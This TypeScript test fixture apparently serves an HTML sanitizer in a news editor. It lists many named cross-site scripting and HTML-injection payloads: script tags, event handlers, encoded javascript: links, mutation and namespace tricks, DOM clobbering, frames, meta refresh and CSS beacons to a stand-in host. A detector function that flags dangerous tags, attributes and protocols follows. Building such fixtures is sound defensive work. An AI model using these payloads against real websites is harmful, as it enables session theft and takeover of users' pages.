/**
 * HTML that wants to run something. Every sample calls `hostile()` when it succeeds; where no script can be
 * called, it loads or leaves for `hostile.invalid`.
 */
export const hostileHtml: Record<string, string> = {
  script: '<p>a</p><script>hostile()</script>',
  'script in capitals': '<ScRiPt>hostile()</sCrIpT>',
  'script with a slash': '<script/src="https://hostile.invalid/x.js"></script>',
  'script inside a script': '<scr<script>ipt>hostile()</scr</script>ipt>',
  'script that is not closed': '<p>a<script>hostile()//',
  'script as a module': '<script type="module">hostile()</script>',
  'import map': '<script type="importmap">{"imports":{"react":"https://hostile.invalid/r.js"}}</script>',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"urls":["https://hostile.invalid/"]}]}</script>',
  'image error': '<img src=x onerror=hostile()>',
  'image error with slashes': '<img/src=x/onerror=hostile()//',
  'image with a quote left open': '<img src="x` `<script>hostile()</script>"` `onerror=hostile()>',
  'image load':
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload=hostile()>',
  'image srcset': '<img srcset="x 1x, y 2x" onerror="hostile()">',
  'picture source': '<picture><source srcset=x><img src=x onerror=hostile()></picture>',
  'body load': '<body onload=hostile()><p>a</p></body>',
  'handlers of many kinds':
    '<p onclick=hostile() onmouseover=hostile() onfocus=hostile() onpointerenter=hostile() tabindex=0 autofocus>a</p>',
  'focus by itself':
    '<input autofocus onfocus=hostile()><a href="#" autofocus onfocus=hostile() tabindex=1>a</a>',
  'details toggle': '<details open ontoggle=hostile()><summary>a</summary>b</details>',
  marquee: '<marquee onstart=hostile()>a</marquee>',
  'animation start':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=hostile()>a</p>',
  'video source error': '<video><source onerror=hostile()></video><audio src=x onerror=hostile()></audio>',
  'svg load': '<svg onload=hostile()></svg>',
  'svg script': '<svg><script>hostile()</script></svg>',
  'svg script in a link': '<svg><script href="data:text/javascript,hostile()"></script></svg>',
  'svg animate':
    '<svg><a><animate attributeName=href values=javascript:hostile() begin=0s></animate><text y=20>a</text></a></svg>',
  'svg use of data':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=hostile() /></svg>#x"></use></svg>',
  'svg foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.hostile()</script>"></iframe></foreignObject></svg>',
  'math link': '<math><maction actiontype="statusline" xlink:href="javascript:hostile()">a</maction></math>',
  'math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile()&gt;">',
  'math and svg mutation':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hostile() src>">',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>',
  'title mutation': '<svg></p><title><a id="</title><img src=1 onerror=hostile()>"></title>',
  'textarea mutation': '<textarea><p title="</textarea><img src=1 onerror=hostile()>"></textarea>',
  'xmp mutation': '<xmp><p title="</xmp><img src=1 onerror=hostile()>"></xmp>',
  'comment mutation': '<!--><img src=1 onerror=hostile()>--><!--!> <img src=x onerror=hostile()> -->',
  'conditional comment':
    '<!--[if gte mso 9]><img src=x onerror=hostile()><![endif]--><![if !x]><script>hostile()</script><![endif]>',
  cdata: '<svg><![CDATA[><img src=x onerror=hostile()>]]></svg>',
  template: '<template><script>hostile()</script><img src=x onerror=hostile()></template>',
  'shadow root by declaration':
    '<div><template shadowrootmode=open><img src=x onerror=hostile()></template></div>',
  'javascript link': '<a href="javascript:hostile()">a</a>',
  'javascript link in capitals': '<a href="JaVaScRiPt:hostile()">a</a>',
  'javascript link with a tab':
    '<a href="java\tscript:hostile()">a</a><a href="java&#10;script:hostile()">b</a>',
  'javascript link in entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hostile()">a</a>',
  'javascript link without semicolons':
    '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3ahostile()">a</a>',
  'javascript link after control characters': '<a href="\u0001\u0019 javascript:hostile()">a</a>',
  'javascript link with hidden characters':
    '<a href="java\u200bscript:hostile()">a</a><a href="java\u00adscript:hostile()">b</a>',
  'javascript link with a colon of entities':
    '<a href="javascript&colon;hostile()">a</a><a href="java&Tab;script:hostile()">b</a>',
  'vbscript link': '<a href="vbscript:hostile()">a</a>',
  'link to data': '<a href="data:text/html,<script>opener.hostile()</script>" target=_blank>a</a>',
  'link to data in base64': '<a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">a</a>',
  'link to a blob and a file':
    '<a href="blob:https://hostile.invalid/1">a</a><a href="file:///etc/passwd">b</a>',
  'link through Google to a script': '<a href="https://www.google.com/url?q=javascript:hostile()">a</a>',
  'image map': '<map name=m><area href=javascript:hostile() shape=default></map><img usemap=#m src=x>',
  frame: '<iframe src="javascript:parent.hostile()"></iframe>',
  'frame of a document': '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  'frame of data': '<iframe src="data:text/html,<script>parent.hostile()</script>"></iframe>',
  'frame of a lookalike':
    '<iframe src="https://youtube.com.hostile.invalid/embed/aqz-KE-bpKQ"></iframe><iframe src="https://www.youtube.com@hostile.invalid/embed/aqz-KE-bpKQ"></iframe>',
  'frame of an allowed site that wants more':
    '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ&quot; onload=hostile() x=&quot;?x=javascript:hostile()" onload=hostile() srcdoc="<script>parent.hostile()</script>"></iframe>',
  'figure that names a frame':
    '<figure data-embed="javascript:hostile()" data-frame="javascript:hostile()" data-caption="<img src=x onerror=hostile()>"><a data-frame="https://hostile.invalid/" href="javascript:hostile()">a</a></figure>',
  'frame by the code of another site':
    '<blockquote class="tiktok-embed" cite="javascript:hostile()"><img src=x onerror=hostile()></blockquote><div class="fb-post" data-href="https://hostile.invalid/vov/posts/1234567"><script>hostile()</script></div>',
  'object and embed':
    '<object data="javascript:hostile()"></object><embed src="data:text/html,<script>parent.hostile()</script>">',
  'applet and frameset':
    '<applet code=x></applet><frameset onload=hostile()><frame src="javascript:parent.hostile()"></frameset>',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:hostile()">',
  'refresh to elsewhere': '<meta http-equiv="refresh" content="0; url=https://hostile.invalid/">',
  base: '<base href="https://hostile.invalid/"><a href="/tin">a</a><img src="/a.png">',
  stylesheet:
    '<link rel=stylesheet href="https://hostile.invalid/x.css"><style>@import "https://hostile.invalid/y.css";</style>',
  'preload and prefetch':
    '<link rel=prefetch href="https://hostile.invalid/"><link rel=modulepreload href="https://hostile.invalid/m.js">',
  'style of a script':
    '<p style="background:url(javascript:hostile())">a</p><p style="width:expression(hostile())">b</p>',
  'style that tells': '<p style="background-image:url(https://hostile.invalid/seen)">a</p>',
  'style that covers the page':
    '<a href="https://hostile.invalid/" style="position:fixed;inset:0;z-index:99999">a</a>',
  form: '<form action="javascript:hostile()"><button autofocus>a</button></form>',
  'form action of a button':
    '<form id=f></form><button form=f formaction="javascript:hostile()">a</button><input type=image src=x onerror=hostile()>',
  'clobbered names':
    '<form id=document><input name=body></form><img name=getElementById><a id=editor><a id=editor name=chain href="x">',
  'clobbered attributes':
    '<form><input name=attributes><input name=parentNode><p onclick=hostile()>a</p></form>',
  'custom element': '<x-a onclick=hostile() is="x-b"><p is="x-c" onfocus=hostile() tabindex=0>a</p></x-a>',
  'xml and processing': '<?xml version="1.0"?><?php hostile() ?><xml><x onload=hostile()/></xml>',
  'namespace prefix':
    '<html:script xmlns:html="http://www.w3.org/1999/xhtml">hostile()</html:script><xlink:script>hostile()</xlink:script>',
  'null bytes': '<scr\u0000ipt>hostile()</scr\u0000ipt><img src=x on\u0000error=hostile()>',
  'wide letters': '＜script＞hostile()＜/script＞<ſcript>hostile()</ſcript><img src=x ｏnerror=hostile()>',
  'turned direction': '<p>\u202e<a href="https://hostile.invalid/\u202egnp.x">a</a>\u2066</p>',
  'editor’s own mark':
    '<p data-pm-slice="1 1 []"><img src=x onerror=hostile()><a href="javascript:hostile()">a</a></p><script>hostile()</script>',
  'deep nesting': `${'<b><div>'.repeat(60)}<img src=x onerror=hostile()>`,
  'list that starts with a script':
    '<ol start="javascript:hostile()" reversed onclick=hostile()><li value="javascript:hostile()">a</li></ol>',
  'list that starts beyond counting':
    '<ol start="99999999999999999999999"><li value="1e999">a<img src=x onerror=hostile()></li><li value="-0x7fffffff">b</li></ol>',
  'list start that leaves its quotes':
    '<ol start="1&quot; onmouseover=&quot;hostile()"><li value="2&quot;><img src=x onerror=hostile()>">a</li></ol>',
  'note with a hostile number':
    '<p>a<a data-note="1&quot; onclick=&quot;hostile()" onclick=hostile() href="javascript:hostile()">[1]</a></p><ol><li data-note="javascript:hostile()" id="&quot;><script>hostile()</script>">b</li></ol>',
  'note that leads to a script':
    '<p>a<a data-note="1" href="javascript:hostile()" onfocus=hostile() tabindex=0>[1]</a></p><ol><li data-note="1" onclick=hostile() id=document>b<script>hostile()</script></li></ol>',
  'footnote of Word that runs':
    '<p>a<a href="#_ftn1" name="_ftnref1" onclick=hostile()><script>hostile()</script>[1]</a></p><div style="mso-element:footnote" id="ftn1" onclick=hostile()><p><a href="#_ftnref1" name="_ftn1"><img src=x onerror=hostile()></a>b</p></div>',
  'ids that take the place of others':
    '<p id="chu-thich-1" onclick=hostile()><a id="cho-chu-thich-1" name="location" href="javascript:hostile()">a</a></p><ol><li id="chu-thich-1" onclick=hostile()><a href="#cho-chu-thich-1" onclick=hostile()>↑</a></li></ol>',
  'list of Word that runs':
    '<p class=MsoListParagraph style="mso-list:l0 level1 lfo1;background:url(javascript:hostile())" onclick=hostile()><span style="mso-list:Ignore" onclick=hostile()>1.<script>hostile()</script></span>a</p>',
  'a figure of the house':
    '<figure data-size="wide"><img src="/media/x/a.jpg" onerror=hostile() alt="&quot; onerror=hostile() "><figcaption><img src=x onerror=hostile()><span class=credit onclick=hostile()>a</span></figcaption></figure>',
  'a sound of the house':
    '<audio src="javascript:hostile()" data-caption="<img src=x onerror=hostile()>"></audio><video src="https://x.invalid/a.mp4" poster="javascript:hostile()" title="<script>hostile()</script>"></video>',
}

const tags =
  /^(script|style|iframe|frame|object|embed|applet|svg|math|base|meta|link|form|input|button|textarea|select|template|marquee|details|x-.*|area|map)$/
const addresses = new Set([
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'poster',
  'data',
  'xlink:href',
  'usemap',
])

/** What of an element can run or load something; null when nothing can. */
export function dangerOf(element: {
  tagName: string
  attributes: Iterable<{ name: string; value: string }>
}): string | null {
  const tag = element.tagName.toLowerCase()
  if (tags.test(tag)) return tag
  for (const { name, value } of element.attributes) {
    if (name.startsWith('on') || name === 'srcdoc' || name === 'is') return name
    if (name === 'style' && /url\(|expression|position|@import/i.test(value)) return value
    if (!addresses.has(name) || value === '') continue
    const address = name === 'srcset' ? (value.split(/\s/)[0] ?? '') : value
    const { protocol } = new URL(address, 'https://toasoan.example')
    if (!['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)) return `${name}=${value}`
  }
  return null
}
